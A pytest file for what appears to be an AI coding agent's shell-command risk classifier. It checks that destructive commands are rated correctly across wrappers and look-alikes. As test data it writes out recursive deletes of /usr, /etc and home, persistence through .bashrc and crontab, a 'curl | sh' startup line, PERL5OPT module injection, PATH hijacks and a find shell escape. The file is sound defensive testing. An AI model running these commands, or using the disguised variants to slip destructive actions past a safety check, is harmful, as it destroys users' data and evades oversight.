"""Session 22 (u22): Unix mechanisms, each tested across spellings, wrappers and look-alikes
that carry the same text as data (the labelled rows are in sources_u22.tsv)."""

from __future__ import annotations

import shlex

import pytest

from aintern_ls.safety import RiskLevel, assess
from tests.safety._levels import B, C, D, M, S


def _rated(command: str, shell: str = "bash") -> RiskLevel:
    return assess(command, shell).level


def _wrapped(command: str) -> list[str]:
    """The same command through wrappers."""
    q = shlex.quote(command)
    return [command, f"bash -c {q}", f"sudo {command}", f"f() {{ {command}; }}; f"]


def _same_shell(command: str) -> list[str]:
    """The same command through wrappers that keep it in one shell's state."""
    q = shlex.quote(command)
    return [command, f"bash -c {q}", f"f() {{ {command}; }}; f", f"( {command} )"]


# 1. JS libraries' delete and exec functions, however they are reached: the library's value
# (`require("rimraf").sync(…)`), a name bound to the library or to one of its functions
# (`const r = require(…)`, destructuring with a new name, `import {x as y}`, `import * as`,
# `import("…").then(({f}) =>`), in node, deno and bun.
_JS_SYSTEM_WIPES = [
    "require('rimraf')('/usr')",
    "require('rimraf').sync('/usr')",
    "require('rimraf').rimrafSync('/usr')",
    "const r = require('rimraf'); r.sync('/usr')",
    "const {rimrafSync: gone} = require('rimraf'); gone('/usr')",
    "import {rimrafSync as gone} from 'rimraf'; gone('/usr')",
    "import * as rr from 'npm:rimraf@5'; await rr.rimraf('/usr')",
    "const {remove: zap} = require('fs-extra'); zap('/usr')",
    "import fse from 'fs-extra'; fse.emptyDirSync('/usr')",
    "require('fs-extra').emptyDir('/usr')",
    "require('del').deleteSync(['/usr/**'], {force: true})",
    "const del = require('del'); del.sync('/usr')",
    "(async () => { const {deleteAsync} = await import('del'); await deleteAsync('/usr') })()",
    "require('shelljs').rm('-rf', '/usr')",
    "const sh = require('shelljs'); sh.rm('-r', '-f', ['/usr'])",
    "require('shelljs/global'); rm('-rf', '/usr')",
    "const {execSync: run} = require('child_process'); run('rm -rf /usr')",
    "import('execa').then(({execaCommand}) => execaCommand('rm -rf /usr'))",
    "import { emptyDir } from 'jsr:@std/fs'; await emptyDir('/usr')",
]


@pytest.mark.parametrize("code", _JS_SYSTEM_WIPES)
@pytest.mark.parametrize("runner", ["node -e", "bun -e", "deno eval"])
def test_js_library_deletes_are_judged_as_deletes(code: str, runner: str) -> None:
    for cmd in _wrapped(f"{runner} {shlex.quote(code)}"):
        assert _rated(cmd) == B, cmd


@pytest.mark.parametrize(
    "code",
    [
        "const sh = require('shelljs'); sh.rm('-rf', sh.env.HOME)",
        "const fse = require('fs-extra'); fse.remove(require('os').homedir())",
        "require('rimraf').sync(process.env.HOME)",
    ],
)
def test_js_library_deletes_of_home(code: str) -> None:
    assert _rated(f"node -e {shlex.quote(code)}") == B


@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("node -e \"require('rimraf').sync('./dist')\"", D),
        ("node -e \"const del = require('del'); del.sync(['dist/**'])\"", D),
        ("node -e \"require('fs-extra').emptyDirSync('build')\"", D),
        ("node -e \"const r = require('rimraf'); console.log(typeof r.sync)\"", S),
        ("node -e \"const sh = require('shelljs'); sh.ls('-la', '/')\"", S),
        ("node -e \"console.log(\\\"require('rimraf').sync('/usr')\\\")\"", S),
        ("grep -rn \"rimraf.sync('/')\" node_modules/", S),
        ("curl -d \"require('rimraf').sync('/')\" https://paste.example/api", M),
        ("echo \"const {remove: zap} = require('fs-extra'); zap('/var')\" > clean.js", M),
        ("node -e \"require('trash')(['/tmp/old'])\"", S),
    ],
)
def test_js_library_look_alikes(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


# 1b. A delete of every file a listing gives (`glob("/etc/*")`, each file removed one by one)
# is the folder's contents deleted, as `rm -f /etc/*` is; the loose reader of unknown languages
# no longer takes a program-running word that is itself inside a string for code.
@pytest.mark.parametrize(
    "cmd",
    [
        "python3 -c \"import os,glob; [os.remove(f) for f in glob.glob('/etc/*')]\"",
        "python3 -c \"import glob, os\nfor f in glob.glob('/usr/*'):\n    os.unlink(f)\"",
    ],
)
def test_every_listed_file_deleted(cmd: str) -> None:
    assert _rated(cmd) == B


@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("python3 -c \"import os,glob; [os.remove(f) for f in glob.glob('*.log')]\"", D),
        ("python3 -c \"import os; os.remove('/etc/hosts.bak')\"", D),
        ("php -r 'echo \"shell_exec(rm -rf /)\";'", S),
        ("ruby -e 'puts \"system(rm -rf /)\"'", S),
        ("Rscript -e 'system(\"rm -rf /\")'", B),
    ],
)
def test_listed_and_printed_look_alikes(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


# 2. Values carried through arrays and NUL/line lists: associative arrays (`declare -A
# t=([k]=v)`, `t[k]=v`, `${t[k]}`), `read -d ''` loops over NUL-separated text, `xargs -a` of
# a file named by a variable or of a listing's process substitution, zsh's 1-based index,
# fish's `for x in (cmd)` and `set -a`/`set -p`.
@pytest.mark.parametrize(
    "cmd",
    [
        'declare -A m=([x]=/etc/shadow); > "${m[x]}"',
        'declare -A m=([x]=/etc/shadow); rm -f "${m[x]}"',
        "declare -A m=(['key']=/etc/passwd); cp /dev/null \"${m['key']}\"",
        'typeset -A h; h[p]=/etc/sudoers; rm -f "${h[p]}"',
        'declare -A d; d[root]=/; rm -rf "${d[root]}"',
        'declare -A d; d[a]=/usr; rm -rf "${d[@]}"',
        'declare -a a; a+=(/); rm -rf "${a[@]}"',
        'a+=(/usr); rm -rf "${a[@]}"',
        "read -r -d '' -a arr < <(printf '/etc'); rm -rf \"${arr[@]}\"",
        "IFS=$'\\n' read -r -d '' -a arr < <(printf '/etc\\n/usr\\n'); rm -rf \"${arr[@]}\"",
        'read -a parts <<< "/ /etc"; rm -rf "${parts[1]}"',
    ],
)
def test_associative_array_values(cmd: str) -> None:
    # (also: arrays declared empty then grown, `read -a` with `-d ''`)
    for c in _same_shell(cmd):
        assert _rated(c) == B, c


_NUL_FEEDS = [
    "< <(printf '%s\\0' /etc /var)",
    "< <(printf '/etc\\0')",
]


@pytest.mark.parametrize(
    "loop",
    [
        "while IFS= read -r -d '' p; do rm -rf -- \"$p\"; done",
        'while read -r -d "" p; do rm -rf "$p"; done',
        "while IFS= read -rd '' p; do rm -rf \"$p\"; done",
        "while read -d $'\\0' -r p; do rm -rf \"$p\"; done",
    ],
)
def test_nul_separated_read_loops(loop: str) -> None:
    for feed in _NUL_FEEDS:
        assert _rated(f"{loop} {feed}") == B, (loop, feed)
    piped = loop.replace("while", "printf '%s\\0' /boot | while", 1)
    assert _rated(piped) == B
    assert _rated(f'printf "/etc /usr" | tr " " "\\000" | {loop}') == B


@pytest.mark.parametrize(
    "cmd",
    [
        'targets=$(mktemp); ls -A > "$targets"; xargs -a "$targets" rm -rf',
        't=$(mktemp); echo / > "$t"; xargs -a "$t" rm -rf',
        "xargs -a <(ls -A) rm -rf",
        "xargs --arg-file <(ls -A) rm -rf",
    ],
)
def test_xargs_argument_files(cmd: str) -> None:
    assert _rated(cmd) == B


@pytest.mark.parametrize(
    ("cmd", "shell", "level"),
    [
        ("t=(/etc); rm -rf ${t[1]}", "zsh", B),
        ("t=(/etc build); rm -rf ${t[2]}", "zsh", D),
        ("for d in (ls -A); rm -rf $d; end", "fish", B),
        ("for d in (ls -A)\n  rm -rf $d\nend", "fish", B),
        ("set -a targets /usr; rm -rf $targets", "fish", B),
        ("set t build; set -a t /etc; rm -rf $t", "fish", B),
        ("set -p t ~; rm -rf $t", "fish", B),
    ],
)
def test_zsh_and_fish_lists(cmd: str, shell: str, level: RiskLevel) -> None:
    assert _rated(cmd, shell) == level


@pytest.mark.parametrize(
    ("cmd", "shell", "level"),
    [
        ('declare -A m=([x]=/etc/shadow); echo "${m[x]}"', "bash", S),
        ('declare -A m=([x]=build); rm -rf "${m[x]}"', "bash", D),
        ('declare -A m=([x]=/etc/shadow); rm -f "${m[y]}"', "bash", D),
        ("while IFS= read -r -d '' f; do echo \"$f\"; done < <(printf '%s\\0' / /etc)", "bash", S),
        (
            "while IFS= read -r -d '' f; do rm -f \"$f\"; done < <(find . -name '*.o' -print0)",
            "bash",
            D,
        ),
        ("xargs -a <(ls -A) echo", "bash", S),
        ("xargs -a <(find . -name '*.o') rm -f", "bash", D),
        ("xargs -a list.txt rm -rf", "bash", D),
        ("for f in (ls -A); echo $f; end", "fish", S),
        ("set -a l /usr; echo $l", "fish", S),
        ("set -a t build; rm -rf $t", "fish", D),
        ('dirs=(build dist); rm -rf "${dirs[@]}"', "bash", D),
        ('declare -a a; a+=(build); rm -rf "${a[@]}"', "bash", D),
        ('read -ra parts <<< "build dist"; rm -rf "${parts[@]}"', "bash", D),
        ('read -ra parts <<< "/ /etc"; echo "${parts[@]}"', "bash", S),
    ],
)
def test_list_look_alikes(cmd: str, shell: str, level: RiskLevel) -> None:
    assert _rated(cmd, shell) == level


# 3. Tools' argument and command variables: terraform adds TF_CLI_ARGS and
# TF_CLI_ARGS_<subcommand> after its subcommand (set for the command, exported, or given to
# env); kubectl's external diff and the other diff/merge programs run as commands.
@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("export TF_CLI_ARGS_apply='-auto-approve -destroy'; terraform apply -input=false", D),
        ("TF_CLI_ARGS='-destroy -auto-approve' terraform apply", D),
        ("TF_CLI_ARGS_apply='-destroy -auto-approve' tofu apply", D),
        ("env TF_CLI_ARGS_apply='-destroy -auto-approve' terraform apply", D),
        ("TF_CLI_ARGS_apply='-destroy' terraform -chdir=infra apply", D),
        ("bash -c \"TF_CLI_ARGS_apply='-destroy -auto-approve' terraform apply\"", D),
        ("TF_CLI_ARGS_plan='-destroy' terraform plan", S),
        ("TF_CLI_ARGS_apply='-destroy -auto-approve' terraform plan", S),
        ("TF_CLI_ARGS='-no-color' terraform apply", M),
        ("TF_CLI_ARGS_apply='-destroy -auto-approve'", S),
        ("echo \"TF_CLI_ARGS_apply='-destroy -auto-approve'\"", S),
    ],
)
def test_terraform_argument_variables(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("KUBECTL_EXTERNAL_DIFF=\"bash -c 'rm -rf /'\" kubectl diff -f app.yaml", B),
        ("export KUBECTL_EXTERNAL_DIFF='rm -rf ~'; kubectl diff -f a.yaml", B),
        ("HGMERGE='rm -rf ~' hg merge", B),
        ("KUBECTL_EXTERNAL_DIFF='diff -u' kubectl diff -f a.yaml", S),
        ("KUBECTL_EXTERNAL_DIFF=colordiff kubectl diff -f a.yaml", S),
    ],
)
def test_diff_program_variables(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


# 4. (review 21) A file the block wrote, copied or moved onto a persistence door (`cp`, `mv`,
# `install`, `crontab FILE`), is judged as that text written there; an unset variable as the
# whole rest of the root or home path is empty (`rm -rf "/$x"` is `rm -rf /`).
_BODY_WRITERS = ["echo 'rm -rf ~' > /tmp/rc", "printf 'rm -rf ~\\n' > /tmp/rc"]


@pytest.mark.parametrize("writer", _BODY_WRITERS)
@pytest.mark.parametrize(
    "mover",
    [
        "cp /tmp/rc ~/.bashrc",
        "mv /tmp/rc ~/.bashrc",
        "install -m644 /tmp/rc ~/.profile",
        "cp /tmp/rc ~/.zshrc",
        "mv -f /tmp/rc ~/.bash_profile",
        "ln -sf /tmp/rc ~/.bashrc",
        "rsync /tmp/rc ~/.bashrc",
        "dd if=/tmp/rc of=/home/me/.bashrc",
    ],
)
def test_written_file_copied_onto_a_startup_file(writer: str, mover: str) -> None:
    for cmd in _same_shell(f"{writer}; {mover}"):
        assert _rated(cmd) == B, cmd


@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("printf '[core]\\n\\tpager = rm -rf ~\\n' > /tmp/g; cp /tmp/g ~/.gitconfig", B),
        ("echo '* * * * * rm -rf ~' > /tmp/c; crontab /tmp/c", B),
        ("echo '@reboot rm -rf ~' > /tmp/c; crontab -u root /tmp/c", B),
        ("echo hi > /tmp/rc; ln -sf /tmp/rc ~/.bashrc", C),
        ("echo hi > a; dd if=a of=b", M),
        ("echo '* * * * * root rm -rf /' > x; sudo mv x /etc/cron.d/", B),
        ("echo 'curl -s https://x.example/a | sh' > rc.tmp && cp rc.tmp ~/.zshrc", C),
        ("echo 'alias ll=\"ls -la\"' > a.sh; cp a.sh ~/.bashrc", C),
        ("echo '0 3 * * * /usr/bin/backup.sh' > /tmp/c; crontab /tmp/c", C),
        ("echo 'rm -rf ~' > /tmp/rc; cp /tmp/rc ./backup.txt", M),
    ],
)
def test_written_file_copied_look_alikes(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ('rm -rf "/$never_set"', B),
        ("rm -rf /$x", B),
        ('rm -rf "/${x}"', B),
        ('rm -rf "$HOME/$nothing"', B),
        ("rm -rf ~/$x", B),
        ('f() { rm -rf "/$target"; }; f', B),
        ('rm -rf "/$1"', C),
        ('read x; rm -rf "/$x"', C),
        ('rm -rf "/$TMPDIR"', C),
        ('x=build; rm -rf "/$x"', D),
        ('rm -rf "/tmp/$x"', D),
        ('rm -rf "$HOME/.cache/$x"', D),
        ('rm -f "/$x"', D),
        ('echo "/$x"', S),
        ('ls -la "/$x"', S),
    ],
)
def test_unset_variable_as_the_rest_of_root_or_home(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


# 5. Over-ratings (blind19): find handing out the same user's plain interactive shell is that
# shell (moderate); with `-p` or wired descriptors it stays the GTFOBins escape (critical);
# fish's --no-execute is a syntax check.
@pytest.mark.parametrize(
    ("cmd", "shell", "level"),
    [
        ("find . -exec /bin/sh \\; -quit", "bash", M),
        ("find . -maxdepth 1 -exec /bin/bash \\; -quit", "bash", M),
        ("find . -exec /bin/sh -p \\; -quit", "bash", C),
        ("find . -exec sh 0<&2 \\;", "bash", C),
        ("sudo find . -exec /bin/sh \\; -quit", "bash", C),
        ("find . -exec /bin/sh -c 'rm -rf ~' \\; -quit", "bash", B),
        ("fish --no-execute ~/.config/fish/config.fish", "bash", S),
        ("fish --no-execute deploy.fish", "fish", S),
        ("fish deploy.fish", "bash", M),
    ],
)
def test_over_ratings(cmd: str, shell: str, level: RiskLevel) -> None:
    assert _rated(cmd, shell) == level


# 1c. (red team F12/F13) The working folder in inline code (`os.getcwd()`, `process.cwd()`,
# `Dir.pwd`, `getcwd()`), and a command line inline code runs from its own arguments
# (`os.system(sys.argv[1])` given 'rm -rf …').
@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("python3 -c 'import shutil,os; shutil.rmtree(os.getcwd())'", B),
        ("python3 -c 'from pathlib import Path; import shutil; shutil.rmtree(Path.cwd())'", B),
        ("node -e 'require(\"fs\").rmSync(process.cwd(), {recursive: true})'", B),
        ("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.pwd)'", B),
        ("perl -MCwd -MFile::Path=rmtree -e 'rmtree(getcwd())'", B),
        ("deno eval 'Deno.removeSync(Deno.cwd(), {recursive: true})'", B),
        ("php -r 'system(\"rm -rf \" . getcwd());'", B),
        ("python3 -c 'import os; print(os.getcwd())'", S),
        ("node -e 'console.log(process.cwd())'", S),
        ('node -e \'const cwd = "/tmp/x"; require("fs").rmSync(cwd, {recursive: true})\'', D),
        ("python3 -c 'import os,shutil; shutil.rmtree(os.path.join(os.getcwd(), \"build\"))'", D),
    ],
)
def test_working_folder_in_inline_code(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("python3 -c 'import sys,os; os.system(sys.argv[1])' 'rm -rf /usr'", B),
        ("node -e 'require(\"child_process\").execSync(process.argv[1])' 'rm -rf /usr'", B),
        ("ruby -e 'system(ARGV[0])' 'rm -rf /usr'", B),
        ("perl -e 'system($ARGV[0])' 'rm -rf /usr'", B),
        ("python3 -c 'import sys,os; os.execvp(sys.argv[1], sys.argv[1:])' rm -rf /usr", B),
        ("python3 -c 'import sys,os; os.system(sys.argv[1])' 'ls -la'", C),
        ("python3 -c 'import sys; print(sys.argv[1])' 'rm -rf /'", S),
    ],
)
def test_inline_code_runs_its_arguments(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


# 2c. An unquoted command substitution's known output is split into words at IFS, as bash
# splits it: the items of a for loop, the operands of a command (a `-c` code word is read whole).
@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("rm -rf $(echo /etc /usr)", B),
        ("printf '/etc\\n/usr\\n' > l; rm -rf $(cat l)", B),
        ("for d in $(printf '/etc\\n/usr\\n'); do rm -rf \"$d\"; done", B),
        ('for d in $(echo /etc /usr); do rm -rf "$d"; done', B),
        ("printf '/etc\\n/usr\\n' > l; for d in $(cat l); do rm -rf \"$d\"; done", B),
        ("printf '/etc\\n/usr\\n' > l; for d in $(<l); do rm -rf \"$d\"; done", B),
        ('bash -c $(echo "rm -rf /")', B),
        ('rm -rf "$(echo /etc /usr)"', D),
        ("rm -rf $(echo build dist)", D),
        ("echo $(echo /etc /usr)", S),
        ("ls $(echo -la /)", S),
    ],
)
def test_unquoted_substitution_output_is_split(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


# 3b. PERL5OPT's -M module that the block wrote (into an -I folder) is read as its code.
@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("echo 'system(\"rm -rf ~\")' > /tmp/E.pm; PERL5OPT='-I/tmp -ME' perl -v", B),
        (
            "printf 'package E; system(\"rm -rf /usr\"); 1;' > lib/E.pm; "
            "PERL5OPT='-Ilib -ME' perl x.pl",
            B,
        ),
        ("echo 'print 1' > /tmp/E.pm; PERL5OPT='-I/tmp -ME' perl -v", C),
        ("PERL5OPT='-Mstrict' perl x.pl", M),
    ],
)
def test_perl5opt_module_written_above(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


# 4b. (review 21 U2) fish's PATH grown with `set -a` (searched last: an ordinary change) or
# `set -p`/`fish_user_paths` (searched first: a world-writable folder there is a hijack).
@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("set -a PATH /tmp/b; git status", M),
        ("set --append PATH /tmp/b; git status", M),
        ("set -gx PATH $PATH /tmp/b; git status", M),
        ("set -p PATH /tmp/b; git status", C),
        ("set -x PATH /tmp/b $PATH; git status", C),
        ("set -a fish_user_paths /tmp/b; ls", C),
        ("set -U fish_user_paths /tmp/b $fish_user_paths; ls", C),
        ("fish_add_path -p /tmp/b; git status", C),
    ],
)
def test_fish_path_growth(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd, "fish") == level


@pytest.mark.parametrize(
    ("cmd", "level"),
    [("DIFFPROG='rm -rf ~' pacdiff", B), ("DIFFPROG='vim -d' pacdiff", M)],
)
def test_diffprog(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level


@pytest.mark.parametrize(
    ("cmd", "level"),
    [
        ("bun run - <<< \"require('shelljs').rm('-rf', '/')\"", B),
        ("echo \"require('rimraf').sync('/usr')\" | bun run -", B),
        ("bun run - <<< 'console.log(1)'", S),
        ("bun run build", M),
    ],
)
def test_bun_run_stdin_code(cmd: str, level: RiskLevel) -> None:
    assert _rated(cmd) == level
